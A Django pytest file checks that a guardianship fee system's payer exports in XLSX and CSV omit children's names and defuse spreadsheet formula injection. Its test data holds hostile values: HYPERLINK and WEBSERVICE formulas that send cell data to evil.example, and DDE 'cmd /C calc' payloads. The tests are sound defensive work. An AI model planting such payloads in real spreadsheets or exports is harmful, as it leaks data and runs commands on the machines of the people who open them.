"""The payer's exports are safe and minimal (issue 15, part 8): what paying needs and no
child's name; text written as text, so that a case number or a name typed as a formula
stays text in the payer's spreadsheet (OWASP, CSV injection)."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from fees.enums import ClaimStatus
from fees.factories import FeeClaimFactory
from fees.models import FeeClaim
from guardianship.enums import AccessAction, AccessBasis
from guardianship.factories import AssignmentFactory, ChildFactory, GuardianFactory
from guardianship.models import AccessLog

pytestmark = pytest.mark.django_db

EXPORT = {"payer": "satakunnan-hyvinvointialue", "start": "2026-01-01", "end": "2026-12-31"}
CHILD = "Aino-Ilona"
# What a court case number, a name or a reference could be typed as: each first
# character OWASP lists.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Avaa")',
    '=WEBSERVICE("https://evil.example/"&B2)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def claims(coordinator):
    """An approved claim for each hostile case number, of a guardian whose name is a
    formula too, with a child each; one of them paid."""
    guardian = GuardianFactory(first_name="=WEBSERVICE(A1)", last_name="@Kallio")
    made = []
    for n, number in enumerate(HOSTILE):
        case = AssignmentFactory(
            appointed=True,
            guardian=guardian,
            proposed_by=coordinator,
            request__children=0,
            request__case_number=number,
        )
        ChildFactory(request=case.request, first_name=CHILD, last_name="Saloranta")
        made.append(
            FeeClaimFactory(
                assignment=case,
                approved=True,
                period_start=datetime.date(2026, n + 1, 1),
                period_end=datetime.date(2026, n + 1, 20),
                description='=HYPERLINK("https://evil.example")',
            )
        )
    paid = made[0]
    paid.status, paid.paid_at, paid.payment_reference = (
        ClaimStatus.PAID,
        datetime.date(2026, 11, 2),
        "=cmd|' /C calc'!A0",
    )
    paid.save()
    # The payee copied onto the claim when it was sent: a business, its name hostile too.
    FeeClaim.objects.filter(pk=made[1].pk).update(
        payee_kind="business",
        payee_name="-Kallio Oy",
        payee_iban="FI2112345600000785",
        payee_business_id="1572860-0",
        payee_vat_registered=True,
    )
    return made


def download(client, user, fmt):
    client.force_login(user)
    response = client.get(reverse("fees:claim_export", args=[fmt]), EXPORT)
    assert response.status_code == 200
    return response


def test_the_xlsx_has_no_formula_and_no_childs_name(client, payer, claims):
    response = download(client, payer, "xlsx")

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if CHILD in t or "Saloranta" in t]
    header = [c.value for c in sheet[2]]
    assert header == [
        "Palkkiovaatimus",
        "Pyyntö",
        "Asianumero",
        "Maksunsaaja",
        "Tilinumero (IBAN)",
        "Y-tunnus",
        "Arvonlisäverovelvollinen",
        "Jakson alku",
        "Jakson loppu",
        "Tila",
        "Maksupäivä",
        "Maksun viite",
        "Tunnit",
        "Kilometrit",
        "Palkkio (€)",
        "Kulut (€)",
        "Yhteensä (€)",
    ]
    rows = [list(row) for row in sheet.iter_rows(min_row=3, max_row=sheet.max_row - 1)]
    # The hostile case numbers are there, as typed, as strings (XML keeps no lone "\r").
    assert [(r[2].value, r[2].data_type) for r in rows] == [
        (n.replace("\r", "\n"), "s") for n in HOSTILE
    ]
    # Before payee details existed the guardian is the payee; then the claim's copy.
    assert {r[3].value for r in rows[:1] + rows[2:]} == {"=WEBSERVICE(A1) @Kallio"}
    assert [(c.value, c.data_type) for c in rows[1][3:7]] == [
        ("-Kallio Oy", "s"),
        ("FI21 1234 5600 0007 85", "s"),
        ("1572860-0", "s"),
        ("kyllä", "s"),
    ]
    paid = rows[0]
    assert (paid[9].value, paid[10].value.date(), paid[11].value) == (
        "Maksettu",
        datetime.date(2026, 11, 2),
        "=cmd|' /C calc'!A0",
    )
    assert rows[1][9].value == "Hyväksytty"


def test_the_csv_neutralises_every_dangerous_first_character(client, coordinator, claims):
    response = download(client, coordinator, "csv")

    text = response.content.decode("utf-8-sig")
    assert CHILD not in text and "Saloranta" not in text
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    body = rows[1:-1]
    # An apostrophe first (defusedcsv also escapes the DDE pipe "|" as "\|").
    assert [r[2] for r in body] == ["'" + n.replace("|", "\\|") for n in HOSTILE]
    assert {r[3] for r in body[:1] + body[2:]} == {"'=WEBSERVICE(A1) @Kallio"}
    assert body[1][3] == "'-Kallio Oy"
    assert body[0][11] == "'=cmd\\|' /C calc'!A0"  # the payer's own reference too
    # No cell anywhere begins a formula.
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for row in rows for cell in row if cell.startswith(dangerous)]


def test_each_export_is_a_logged_disclosure_to_the_payer(client, payer, claims):
    download(client, payer, "xlsx")
    rows = AccessLog.objects.filter(user=payer, action=AccessAction.EXPORT)
    # One row naming every child of the exported claims.
    assert sum(len(row.children) for row in rows) == len(HOSTILE)
    assert set(rows.values_list("basis", "recipient")) == {
        (AccessBasis.PAYER, "Satakunnan hyvinvointialue")
    }
